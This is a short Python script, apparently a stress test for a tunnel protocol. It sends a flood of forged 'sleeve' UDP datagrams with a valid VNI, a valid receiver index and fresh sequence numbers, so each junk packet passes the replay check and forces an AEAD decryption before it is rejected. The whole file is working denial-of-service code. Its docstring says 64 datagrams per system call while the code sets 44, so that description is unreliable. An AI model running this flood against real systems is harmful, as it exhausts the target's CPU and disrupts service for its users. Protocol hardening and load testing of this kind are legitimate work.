#!/usr/bin/env python3
"""A flood of forged sleeve datagrams, as an underlay attacker who has seen a session's
receiver index on the wire (it is in every datagram's header) would send them: the right VNI
and index, a fresh sequence number each (so the replay window refuses none), and a body and tag
of junk, so that the receiver must run an AEAD open on every one before it can refuse it.

Sent with UDP GSO (64 datagrams per system call) to make as many as one CPU can:

  sleeve_flood.py ADDR PORT VNI RECEIVER_INDEX SECONDS [DATAGRAM_BYTES]

Prints the number of datagrams sent.
"""
import os
import socket
import struct
import sys
import time

UDP_SEGMENT = 103
SEGMENTS = 44


def main():
    addr, port, vni, index, seconds = sys.argv[1:6]
    size = int(sys.argv[6]) if len(sys.argv) > 6 else 1400
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_UDP, UDP_SEGMENT, size)
    buf = bytearray(os.urandom(size * SEGMENTS))
    first = (1 << 24) | (int(vni) & 0xFFFFFF)
    seq = 1 << 44
    sent = 0
    end = time.monotonic() + float(seconds)
    target = (addr, int(port))
    while time.monotonic() < end:
        for i in range(SEGMENTS):
            struct.pack_into(">IIII", buf, i * size, first, int(index), seq >> 32, seq & 0xFFFFFFFF)
            seq += 1
        try:
            s.sendto(buf, target)
            sent += SEGMENTS
        except OSError:
            pass  # a full send buffer, or the ICMP of a closed port: keep flooding
    print(sent, flush=True)


if __name__ == "__main__":
    main()
